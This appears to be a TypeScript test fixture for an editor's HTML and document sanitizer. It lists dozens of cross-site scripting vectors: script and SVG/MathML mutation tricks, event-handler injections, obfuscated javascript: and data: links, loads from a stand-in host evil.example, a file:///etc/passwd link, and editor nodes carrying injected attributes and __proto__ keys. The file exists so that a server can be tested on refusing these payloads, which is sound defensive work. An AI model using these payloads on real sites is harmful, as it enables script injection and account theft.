/** Scripts that must not run, wherever they come from. Each calls `hacked`, or requests another site. */

const CALL = 'hacked()'
const OUT = 'https://evil.example/x'

const TAGS = [
  `<script>${CALL}</script>`,
  `<script src="${OUT}.js"></script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:text/javascript,${CALL}"></script></svg>`,
  `<svg><animate onbegin="${CALL}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text x="20" y="20">press</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,&lt;svg id='x' onload='${CALL}'&gt;#x"></use></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror="${CALL}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${CALL}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${CALL}">press</math>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="${OUT}"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<object data="${OUT}"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<embed src="${OUT}">`,
  `<applet code="${OUT}"></applet>`,
  `<link rel="stylesheet" href="${OUT}.css">`,
  `<style>@import '${OUT}.css';</style>`,
  `<style>*{background:url(${OUT})}</style>`,
  `<style><!--</style><img src=x onerror="${CALL}">--></style>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<base href="${OUT}/">`,
  `<form action="javascript:${CALL}"><button>press</button></form>`,
  `<form id="x"></form><button form="x" formaction="javascript:${CALL}">press</button>`,
  `<isindex action="javascript:${CALL}" type="image">`,
  `<input type="image" src="${OUT}" onerror="${CALL}">`,
  `<input autofocus onfocus="${CALL}">`,
  `<select autofocus onfocus="${CALL}"><option>x</option></select>`,
  `<textarea autofocus onfocus="${CALL}"></textarea>`,
  `<textarea><img src="</textarea><img src=x onerror=${CALL}>">`,
  `<keygen autofocus onfocus="${CALL}">`,
  `<video poster="${OUT}"></video>`,
  `<video src="${OUT}"></video>`,
  `<audio src="${OUT}" onerror="${CALL}"></audio>`,
  `<video><source onerror="${CALL}" src="x"></video>`,
  `<details open ontoggle="${CALL}"><summary>x</summary></details>`,
  `<marquee onstart="${CALL}">x</marquee>`,
  `<body onload="${CALL}">x</body>`,
  `<body background="${OUT}">x</body>`,
  `<table background="${OUT}"><tr><td background="${OUT}">x</td></tr></table>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">x</p></noscript>`,
  `<title><img title="</title><img src=x onerror=${CALL}>"></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">x</p></xmp>`,
  `<plaintext><img src=x onerror="${CALL}">`,
  `<portal src="${OUT}"></portal>`,
  `<dialog open><img src=x onerror="${CALL}"></dialog>`,
  `<x-evil onclick="${CALL}" contenteditable tabindex="1" autofocus onfocus="${CALL}">x</x-evil>`,
  `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`,
  `<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">${CALL}</html:script>`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<div style="background-image:url(${OUT})">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">cover</div>`,
  `<p style="width:expression(${CALL})">x</p>`,
  `<img src="${OUT}">`,
  `<img srcset="${OUT} 1x" src="x">`,
  `<picture><source srcset="${OUT}"><img src=x></picture>`,
  `<a href="${OUT}" ping="${OUT}/ping" onclick="${CALL}" style="position:fixed">press</a>`,
  `<li data-marker="x&quot; onclick=&quot;${CALL}" data-todo="true">x</li>`,
  `<ul><li data-marker="done" data-checked="true" onclick="${CALL}"><input type="checkbox" onchange="${CALL}">x</li></ul>`,
  `<ol start="1 onclick=${CALL}" type="x"><li value="${CALL}">x</li></ol>`,
  `<pre><code class="language-js onclick=${CALL}"><img src=x onerror="${CALL}"></code></pre>`,
  `<h5 aria-level="1" onclick="${CALL}" id="content">x</h5>`,
  `<p style="mso-list:l0 level999999999 lfo1"><img src=x onerror="${CALL}">x</p>`,
  `<div data-pm-slice='0 0 ["bulletList",{"onclick":"${CALL}"}]'><img src=x onerror="${CALL}">x</div>`,
  `<p>${'<b><i><u>'.repeat(300)}<img src=x onerror="${CALL}">${'</u></i></b>'.repeat(300)}</p>`,
  `${'<ul><li>'.repeat(200)}<script>${CALL}</script>`,
  `<b onmouseover="${CALL}"><i onpointerenter="${CALL}">x`,
]

const HANDLERS = ['onerror', 'OnError', 'onerror\n', 'onload', 'onloadstart', 'onanimationstart', 'onfocus', 'onwheel']
const IMAGES = HANDLERS.flatMap((handler) => [
  `<img src=x ${handler}="${CALL}">`,
  `<svg/${handler}=${CALL}><image href="${OUT}"/></svg>`,
])

/** Addresses that run something, or pretend to be something else. */
const BAD_LINKS: readonly string[] = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `\tjavascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `java\rscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `\u00a0javascript:${CALL}`,
  `\u200bjavascript:${CALL}`,
  `javascript\u200b:${CALL}`,
  `javascript\u00ad:${CALL}`,
  `javascript://example.org/%0a${CALL}`,
  `javascript&colon;${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==`,
  `DATA:image/svg+xml,<svg onload="${CALL}">`,
  `blob:https://example.org/1`,
  `file:///etc/passwd`,
  `filesystem:https://example.org/x`,
  `view-source:https://example.org`,
  `about:blank`,
  `ws://example.org`,
  `intent://scan#Intent;end`,
  `feed:javascript:${CALL}`,
  `//evil.example`,
  `\\\\evil.example`,
  `/\\evil.example`,
]

export const PASTED: readonly string[] = [
  ...TAGS,
  ...IMAGES,
  ...BAD_LINKS.map((href) => `<a href="${href.replaceAll('"', '&quot;')}">press</a>`),
]

const text = (value: string, ...marks: object[]) => ({ type: 'text', text: value, ...(marks.length && { marks }) })
const paragraph = (...content: object[]) => ({ type: 'paragraph', content })
const doc = (...content: object[]) => ({ type: 'doc', content })

/** Content that says more than content may say: each is refused by the server. */
export const BAD_CONTENT: readonly object[] = [
  ...BAD_LINKS.map((href) => doc(paragraph(text('press', { type: 'link', attrs: { href } })))),
  ...['image', 'iframe', 'html', 'script', 'table', 'mention', 'constructor', '__proto__', 'video'].map((type) =>
    doc({ type, attrs: { src: OUT, onerror: CALL, html: `<script>${CALL}</script>` } }),
  ),
  ...['style', 'onclick', 'class', 'id', 'innerHTML', 'contenteditable'].map((name) =>
    doc({ type: 'paragraph', attrs: { [name]: CALL }, content: [text('x')] }),
  ),
  ...['textStyle', 'highlight', 'script'].map((type) =>
    doc(paragraph(text('x', { type, attrs: { style: 'color:red' } }))),
  ),
  doc(paragraph(text('x', { type: 'link', attrs: { href: 'https://example.org', onclick: CALL } }))),
  doc(paragraph(text('x', { type: 'link', attrs: { href: { toString: CALL } } }))),
  doc({ type: 'heading', attrs: { level: `5><img src=x onerror=${CALL}>` }, content: [text('x')] }),
  doc({ type: 'codeBlock', attrs: { language: `"><img src=x onerror=${CALL}>` }, content: [text('x')] }),
  doc({ type: 'orderedList', attrs: { start: `1" onclick="${CALL}` }, content: [] }),
]

/** Plain text stays text, whatever it looks like. */
export const TEXTS: readonly string[] = PASTED.slice(0, 110)
